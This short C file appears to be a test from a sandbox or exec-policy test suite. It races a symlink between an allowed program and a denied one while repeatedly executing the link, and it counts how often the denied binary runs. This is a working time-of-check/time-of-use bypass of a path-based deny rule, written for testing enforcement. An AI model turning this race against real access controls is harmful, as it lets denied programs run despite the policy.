// SPDX-License-Identifier: Apache-2.0
// A link is re-pointed between an allowed program and the denied one while it is executed.
#include "attack.h"

static void *swapper(void *arg)
{
	for (;;) {
		(void)!symlink("victiM", "l1");
		rename("l1", "link");
		(void)!symlink("victim", "l2");
		rename("l2", "link");
	}
	return arg;
}

int main(int argc, char **argv)
{
	if (argc > 1) {
		char path[512] = "";
		(void)!readlink("/proc/self/exe", path, sizeof path - 1);
		return strstr(path, "/victim") ? 42 : 7;
	}
	(void)argv;
	must(symlink("victiM", "link"), "symlink");
	start(swapper, NULL);
	while (race_more()) {
		pid_t pid = vfork();
		if (!pid) {
			execl("./link", "x", "run", NULL);
			_exit(1);
		}
		int st = 0;
		waitpid(pid, &st, 0);
		race_won(WIFEXITED(st) && WEXITSTATUS(st) == 42);
	}
	race_end();
}
